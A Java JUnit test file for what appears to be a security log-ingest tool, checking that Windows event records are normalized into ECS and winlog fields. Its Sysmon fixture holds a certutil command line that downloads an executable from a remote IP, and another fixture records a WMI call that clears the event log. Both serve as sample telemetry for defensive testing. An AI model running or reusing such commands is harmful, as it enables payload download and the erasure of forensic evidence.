package io.vigil.ingest.normalize;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.time.Instant;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.vigil.event.NormalizedEvent;
import io.vigil.event.SourceType;
import io.vigil.ingest.parse.Item;

class WindowsEventLogFieldsTest {

    /** A Sysmon process start as SigmaHQ's regression data renders it (shortened). */
    static final String SYSMON_PROCESS = """
            {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
              "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon",
                  "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
                "EventID": 1, "Version": 5, "Level": 4, "Task": 1, "Opcode": 0, "Keywords": "0x8000000000000000",
                "TimeCreated": {"#attributes": {"SystemTime": "2025-10-24T23:41:00.601559Z"}},
                "EventRecordID": 571146, "Correlation": null,
                "Execution": {"#attributes": {"ProcessID": 3544, "ThreadID": 4272}},
                "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws01.corp.example",
                "Security": {"#attributes": {"UserID": "S-1-5-18"}}},
              "EventData": {"RuleName": "-", "ProcessId": 4460, "Image": "C:\\\\Windows\\\\System32\\\\certutil.exe",
                "CommandLine": "certutil -urlcache -f http://203.0.113.5/a.exe a.exe",
                "ParentImage": "C:\\\\Windows\\\\System32\\\\cmd.exe", "User": "CORP\\\\alice"}}}""";

    private final JsonNormalizer normalizer = new JsonNormalizer();
    private final IngestContext context = new IngestContext("win", SourceType.JSON,
            Instant.parse("2026-11-21T10:00:00Z"));

    private NormalizedEvent normalize(String raw) throws Exception {
        return normalizer.normalize(new Item.Json(1, new ObjectMapper().readTree(raw), raw), context);
    }

    @Test
    void aRegressionDataEventGetsItsEcsAndWinlogFields() throws Exception {
        NormalizedEvent event = normalize(SYSMON_PROCESS);
        JsonNode doc = event.document();
        JsonNode winlog = doc.path("winlog");
        assertThat(event.timestamp()).isEqualTo(Instant.parse("2025-10-24T23:41:00.601559Z"));
        assertThat(doc.path("@timestamp").asText()).isEqualTo("2025-10-24T23:41:00.601559Z");
        assertThat(doc.path("event").path("code").isTextual()).isTrue();
        assertThat(doc.path("event").path("code").asText()).isEqualTo("1");
        assertThat(doc.path("host").path("name").asText()).isEqualTo("ws01.corp.example");
        assertThat(winlog.path("channel").asText()).isEqualTo("Microsoft-Windows-Sysmon/Operational");
        assertThat(winlog.path("provider_name").asText()).isEqualTo("Microsoft-Windows-Sysmon");
        assertThat(winlog.path("event_id").asLong()).isEqualTo(1);
        assertThat(winlog.path("record_id").asLong()).isEqualTo(571146);
        assertThat(winlog.path("computer_name").asText()).isEqualTo("ws01.corp.example");
        assertThat(winlog.path("event_data").path("Image").asText()).isEqualTo("C:\\Windows\\System32\\certutil.exe");
        assertThat(winlog.path("event_data").path("CommandLine").asText()).startsWith("certutil -urlcache");
        assertThat(winlog.path("event_data").path("ProcessId").isNumber()).isTrue();
        assertThat(winlog.has("user_data")).isFalse();
        // the record itself stays as it came
        assertThat(doc.path("Event").path("EventData").path("Image").asText()).endsWith("certutil.exe");
        assertThat(doc.path("Event").path("System").path("EventID").asInt()).isEqualTo(1);
        assertThat(doc.path("event").path("kind").asText()).isEqualTo("event");
    }

    @Test
    void theWindowsTimeWinsOverAShippersTimestamp() throws Exception {
        String raw = SYSMON_PROCESS.replaceFirst("\\{\"Event\"",
                "{\"@timestamp\": \"2026-01-01T00:00:00Z\", \"Event\"");
        assertThat(raw).contains("2026-01-01T00:00:00Z");
        assertThat(normalize(raw).timestamp()).isEqualTo(Instant.parse("2025-10-24T23:41:00.601559Z"));
    }

    @Test
    void theSameWithoutTheEventWrapper() throws Exception {
        JsonNode sent = new ObjectMapper().readTree(SYSMON_PROCESS).path("Event");
        JsonNode doc = normalize(sent.toString()).document();
        assertThat(doc.path("winlog").path("event_id").asLong()).isEqualTo(1);
        assertThat(doc.path("winlog").path("event_data").path("Image").asText()).endsWith("certutil.exe");
        assertThat(doc.path("@timestamp").asText()).isEqualTo("2025-10-24T23:41:00.601559Z");
        assertThat(doc.path("System").path("Channel").asText()).isEqualTo("Microsoft-Windows-Sysmon/Operational");
    }

    @Test
    void userDataAndNestedEventDataAreLiftedOneLevel() throws Exception {
        JsonNode doc = normalize("""
                {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-WMI-Activity"}},
                  "EventID": 5858, "Channel": "Microsoft-Windows-WMI-Activity/Operational", "Computer": "ws01",
                  "TimeCreated": {"#attributes": {"SystemTime": "2026-07-02T02:05:27.438557Z"}}},
                 "UserData": {"Operation_ClientFailure": {
                   "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2006/windows/WMI"},
                   "User": "ws01\\\\bob", "ClientProcessId": 25920,
                   "Operation": "Start IWbemServices::ExecMethod - Win32_NTEventlogFile::cleareventlog"}}}}""")
                .document();
        JsonNode userData = doc.path("winlog").path("user_data");
        assertThat(userData.path("Operation").asText()).endsWith("::cleareventlog");
        assertThat(userData.path("User").asText()).isEqualTo("ws01\\bob");
        assertThat(userData.path("ClientProcessId").asInt()).isEqualTo(25920);
        assertThat(doc.path("winlog").has("event_data")).isFalse();

        JsonNode task = normalize("""
                {"Event": {"System": {"EventID": 142, "Channel": "Microsoft-Windows-TaskScheduler/Operational"},
                 "EventData": {"#attributes": {"Name": "TaskDisabled"}, "TaskName": "\\\\Microsoft\\\\SR",
                   "Data.Dotted": "kept whole"}}}""").document().path("winlog").path("event_data");
        assertThat(task.path("Name").asText()).isEqualTo("TaskDisabled");
        assertThat(task.path("TaskName").asText()).isEqualTo("\\Microsoft\\SR");
        assertThat(task.path("Data.Dotted").asText()).isEqualTo("kept whole");
    }

    @Test
    void anEventWithoutSystemIsUntouched() throws Exception {
        JsonNode doc = normalize("""
                {"System": "billing", "EventID": 4688, "Channel": "Security",
                 "EventData": {"Image": "C:\\\\x.exe"}, "time": "2026-11-21T09:00:00Z"}""").document();
        assertThat(doc.has("winlog")).isFalse();
        assertThat(doc.path("event").has("code")).isFalse();
        assertThat(doc.path("@timestamp").asText()).isEqualTo("2026-11-21T09:00:00Z");
        assertThat(normalize("{\"Event\": {\"System\": {\"Name\": \"x\"}}}").document().has("winlog")).isFalse();
    }

    @Test
    void aHeaderElementWithAttributesGivesItsText() throws Exception {
        JsonNode doc = normalize("""
                {"Event": {"System": {"EventID": {"#attributes": {"Qualifiers": 16384}, "#text": 7036},
                  "Channel": "System", "TimeCreated": {"#attributes": {"SystemTime": "2026-03-01 08:15:00.25"}}}}}""")
                .document();
        assertThat(doc.path("event").path("code").asText()).isEqualTo("7036");
        assertThat(doc.path("winlog").path("event_id").asLong()).isEqualTo(7036);
        // Windows gives SystemTime in UTC even where a rendering drops the zone
        assertThat(doc.path("@timestamp").asText()).isEqualTo("2026-03-01T08:15:00.250Z");
    }

    @Test
    void oddShapesAreSkippedWithoutFailingTheEvent() throws Exception {
        JsonNode textId = normalize("""
                {"Event": {"System": {"EventID": "login", "EventRecordID": "n/a", "Channel": ["Security"],
                  "Computer": {"Name": "ws01"}, "TimeCreated": "yesterday", "Provider": "Security"},
                 "EventData": "not an object", "UserData": null},
                 "time": "2026-11-21T09:00:00Z"}""").document();
        assertThat(textId.path("event").path("code").asText()).isEqualTo("login");
        assertThat(textId.path("winlog").has("event_id")).isFalse();
        assertThat(textId.path("winlog").has("record_id")).isFalse();
        assertThat(textId.path("winlog").has("channel")).isFalse();
        assertThat(textId.path("host").has("name")).isFalse();
        assertThat(textId.path("@timestamp").asText()).isEqualTo("2026-11-21T09:00:00Z");

        JsonNode arrayId = normalize(
                "{\"Event\": {\"System\": {\"EventID\": [4688, 4689], \"Channel\": \"Security\"}}}").document();
        assertThat(arrayId.path("event").has("code")).isFalse();
        assertThat(arrayId.path("winlog").path("channel").asText()).isEqualTo("Security");
        assertThat(arrayId.path("@timestamp").asText()).isEqualTo(context.ingested().toString());

        assertThatCode(() -> normalize("{\"Event\": {\"System\": {\"EventID\": null, \"EventData\": {}}}}"))
                .doesNotThrowAnyException();
        assertThatCode(() -> normalize("{\"Event\": \"started\", \"System\": {\"Channel\": 5, \"EventID\": {}}}"))
                .doesNotThrowAnyException();
    }

    @Test
    void aHostNameTheShipperSentIsKept() throws Exception {
        String raw = SYSMON_PROCESS.replaceFirst("\\{\"Event\"", "{\"host\": {\"name\": \"collector01\"}, \"Event\"");
        JsonNode doc = normalize(raw).document();
        assertThat(doc.path("host").path("name").asText()).isEqualTo("collector01");
        assertThat(doc.path("winlog").path("computer_name").asText()).isEqualTo("ws01.corp.example");
    }
}
